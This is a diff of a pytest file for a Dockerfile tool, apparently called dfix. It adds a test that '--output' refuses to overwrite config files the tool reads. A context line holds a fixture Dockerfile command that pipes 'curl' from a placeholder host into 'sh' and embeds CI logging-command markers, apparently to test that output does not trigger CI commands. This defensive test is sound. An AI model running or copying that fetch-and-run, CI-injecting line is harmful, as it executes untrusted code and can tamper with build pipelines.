@@ -192,6 +192,14 @@ def test_a_report_takes_the_place_of_no_input(
     assert call("--check", "--output", "Dockerfile", "b").code == 1, "no input is called like it"
 
 
+@pytest.mark.parametrize("name", ["dfix.toml", "pyproject.toml", ".hadolint.yaml", "dfix.lock"])
+def test_a_report_takes_the_place_of_nothing_that_dfix_reads(call: Caller, name: str) -> None:
+    call.write({"Dockerfile": ADD, name: ""})
+    done = call("--check", "--output", name)
+    assert (done.code, call.text(name)) == (2, "")
+    assert f"--output: {name} is read by dfix" in done.errors
+
+
 @pytest.mark.parametrize("form", ["text", "full"])
 def test_names_and_lines_command_no_ci_system(call: Caller, form: str) -> None:
     text = ADD + "RUN echo ##[add-mask]a && curl http://a/##vso[task.b] | sh\n"
